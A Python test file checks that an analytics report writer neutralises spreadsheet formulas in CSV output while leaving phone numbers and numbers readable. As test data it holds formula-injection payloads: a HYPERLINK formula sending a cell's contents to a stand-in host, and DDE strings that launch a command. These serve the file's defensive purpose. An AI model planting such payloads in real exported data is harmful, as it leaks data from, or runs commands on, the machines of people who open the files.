"""Values written to spreadsheets: formulas neutralised, numbers and phone numbers readable."""

from __future__ import annotations

import csv
import datetime as dt

import pyarrow as pa
import pytest

from tenure.analytics.report import write_report
from tenure.analytics.textfiles import neutralise, neutralise_column

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C2,"Click me")'


@pytest.mark.parametrize("value", [
    HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1",
    "\r=1+1", "=1+1", "-A1", "+", "-",
])
def test_it_puts_an_apostrophe_before_a_formula(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [
    "+380441234567", "+38 (044) 123-45-67", "+1 202.252.9744", "-12.50", "-12,5", "+7",
    "-1e5", "Olena", "a=b", " =not at the start", "",
])
def test_it_leaves_numbers_phones_and_plain_text_readable(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-5, 12.5, dt.date(2024, 1, 2), None, True])
def test_it_leaves_values_that_are_not_text_alone(value):
    assert neutralise(value) is value


def test_a_column_is_neutralised_like_each_of_its_values():
    values = [HYPERLINK, "plain", None, "+380441234567", "@x", "-3"]
    column = pa.chunked_array([values[:3], values[3:]])

    assert neutralise_column(column).to_pylist() == [
        None if v is None else neutralise(v) for v in values]
    numbers = pa.array([-1, 2])
    assert neutralise_column(numbers) is numbers


def test_the_analyze_csv_files_hold_no_formula(tmp_path):
    from tests.analytics.test_analyze import stand_in_analysis

    analysis = stand_in_analysis()
    analysis.customers["customer_id"] = [HYPERLINK, "-7", "@b"]
    analysis.customers["churn_reasons"] = ["", "=1+1", ""]

    files = write_report(analysis, tmp_path)

    with files["customers"].open(newline="", encoding="utf-8") as source:
        rows = list(csv.DictReader(source))
    assert [r["customer_id"] for r in rows] == ["'" + HYPERLINK, "-7", "'@b"]
    assert rows[1]["churn_reasons"] == "'=1+1"
    assert rows[0]["clv"] == "120.5"
